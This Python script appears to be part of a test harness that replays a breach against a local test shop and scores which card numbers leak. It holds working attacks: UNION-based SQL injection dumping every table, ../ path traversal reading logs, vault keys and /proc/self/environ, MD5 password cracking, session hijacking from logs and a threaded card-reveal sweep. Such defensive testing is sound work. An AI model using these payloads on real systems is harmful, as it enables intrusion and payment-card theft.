"""What the incident's attackers did, against the running shop, over HTTP on the loopback network only.

    attack.py PORT LIST RESULT FILES

Knows nothing of how the shop stores cards: it reads the names of tables and columns through the injection, and the fields of
forms from the pages. LIST is for the referee alone. Writes what each attack got to RESULT, as JSON, and what it read of files to
FILES.
"""

import concurrent.futures
import hashlib
import json
import re
import sys
import time

from client import Shop
from referee import Referee

# The attackers come from elsewhere; the desk sits at another address.
ELSEWHERE, DESK = "127.0.0.66", "127.0.0.1"
# Lists of common passwords are much longer than this one.
COMMON_PASSWORDS = ["123456", "password", "password1", "qwerty", "sunshine", "iloveyou", "letmein", "admin2009"]
# The static password of the desk, as it leaked in the incident: known even where the database no longer holds it.
LEAKED_VIEWING_PASSWORD = "view-2009"
THREADS = 8
FILES = [
    "log/shop.log", "log/shop.log.1", "data/shop.mv.db", "data/shop.trace.db", "data/shop.mv.db.tempFile",
    "data/shop.mv.db.newFile", "receipts/R00000001.txt",
    "vault/panveil.toml", "vault/policy.toml", "vault/manifest", "vault/keyring.pvk", "vault/state.db", "vault/state.db-wal",
    "vault/trust/idp.jwks.json", "vault/audit/shop.jsonl", "vault/audit/shop.checkpoint",
    "vault/audit/shop.reserve", "vault/audit/cli.jsonl", "vault/audit/streams", "vault/audit/vault.vkey",
    "/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/self/mem", "/proc/self/fd/0",
]


class Attack:
    def __init__(self, port):
        self.port = port
        self.visitor = Shop(port, ELSEWHERE)
        self.tables = {}

    def injection(self):
        """Every table of the shop's schema, through the order number of the inquiry form."""
        columns = {}
        for table, column, *_ in self._inject(
            "table_name, column_name", "information_schema.columns WHERE table_schema = 'PUBLIC'"
        ):
            columns.setdefault(table, []).append(column)
        loot = []
        for table, names in columns.items():
            # One cell for the whole row; CHAR(31) stands in no value.
            cell = " || CHAR(31) || ".join(f"COALESCE(CAST({name} AS VARCHAR), '')" for name in names)
            rows = [dict(zip(names, row[1].split("\x1f"))) for row in self._inject(f"'{table}', {cell}", table)]
            self.tables[table] = rows
            loot += ["\n".join(row.values()).encode() for row in rows]
        return loot

    def _inject(self, two_columns, table):
        answer = self.visitor.get("/inquiry", order=f"' UNION SELECT {two_columns}, 0, '' FROM {table} --")
        return list(answer.rows())

    def log_file(self):
        return [self._read("log/shop.log")]

    def other_files(self):
        return [self._read(name) for name in FILES]

    def _read(self, name):
        path = "../../../../../../../../../../.." + name if name.startswith("/") else "../" + name
        answer = self.visitor.get("/receipt", file=path)
        return answer.body if answer.status == 200 else b""

    def log_in(self):
        """With the passwords behind the hashes of the admins table, if there is one. Returns the session, if any."""
        hashes = {hashlib.md5(word.encode()).hexdigest(): word for word in COMMON_PASSWORDS}
        for admin in self.tables.get("ADMINS", []):
            word = hashes.get(admin["PASSWORD_MD5"])
            if word and self.visitor.post("/admin/login", login=admin["LOGIN"], password=word).status == 200:
                return self.visitor.session
        return ""

    def stolen_session(self, log):
        """The latest session id in the log."""
        found = re.findall(rb"session ([0-9a-f-]{36})", log)
        return found[-1].decode() if found else ""

    def masked_walk(self, session, address):
        """The incident's: each stolen mask into the search, the leaked viewing password into the form."""
        return self._walk(Shop(self.port, address, session), {"viewing_password": self._viewing_password()})

    def reveal_all(self, session, address):
        """As fast as it can, every card, with whatever the form asks for."""
        fields = {"viewing_password": self._viewing_password(), "purpose": "chargeback", "case": "CB-1042"}
        return self._walk(Shop(self.port, address, session), fields)

    def _viewing_password(self):
        stored = [row["CONTENT"] for row in self.tables.get("SETTINGS", []) if row["NAME"] == "viewing_password"]
        return stored[0] if stored else LEAKED_VIEWING_PASSWORD

    def _walk(self, shop, known):
        masks = sorted({row["MASKED"] for row in self.tables.get("CARDS", [])})

        def try_mask(mask):
            found = shop.get("/admin/search", text=mask)
            loot = [found.body]
            for form in found.forms("/admin/show"):
                loot.append(shop.post("/admin/show", **{name: value or known.get(name, "") for name, value in form.items()}).body)
            return loot

        with concurrent.futures.ThreadPoolExecutor(THREADS) as pool:
            loot = [body for some in pool.map(try_mask, masks) for body in some]
        self.visitor.requests += shop.requests
        return loot


def main(port, path, result, read):
    attack, referee = Attack(int(port)), Referee(path)
    results, all_found = [], set()

    def record(name, title, act, codes=None):
        before, began = attack.visitor.requests, time.monotonic()
        loot = act()
        took = time.monotonic() - began
        found = referee.numbers_in(loot)
        all_found.update(found)
        results.append({
            "name": name, "attack": title, "numbers": len(found), "codes": len(codes(loot)) if codes else None,
            "requests": attack.visitor.requests - before, "seconds": round(took, 1),
        })
        return loot

    def codes_of_dump(_):
        # Ids are left out: one of them may be equal to a code by chance.
        rows = attack.tables.get("CARDS", [])
        return referee.codes_in_rows({row["ID"]: [row[name] for name in row if not name.endswith("ID")] for row in rows})

    record("injection", "SQL injection in the inquiry form: every table", attack.injection, codes_of_dump)
    log = record(
        "log", "the log file, through ../ in the receipt's name", attack.log_file,
        lambda loot: referee.codes_in_lines(loot[0].decode("utf-8").splitlines()),
    )[0]
    files = record("files", "database, vault, /proc/self, by the same way", attack.other_files)
    stolen = attack.stolen_session(log)
    own = attack.log_in()
    record("walk", "masked numbers into the search, leaked viewing password", lambda: attack.masked_walk(own or stolen, DESK))
    record("elsewhere", "stolen admin session, from another address", lambda: attack.reveal_all(stolen, ELSEWHERE))
    record("desk", f"stolen admin session, on the desk's machine, {THREADS} at once", lambda: attack.reveal_all(stolen, DESK))
    with open(result, "w", encoding="utf-8") as file:
        json.dump({
            "cards": len(referee.numbers), "orders": sum(not card["card"] for card in referee.cards),
            "attacks": results, "all": len(all_found), "card_rows": len(attack.tables.get("CARDS", [])),
            "passwords_worked": bool(own), "session_stolen": bool(stolen), "threads": THREADS,
        }, file, indent=1)
    with open(read, "wb") as file:
        file.write(b"".join([log, *files]))


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    main(*sys.argv[1:])
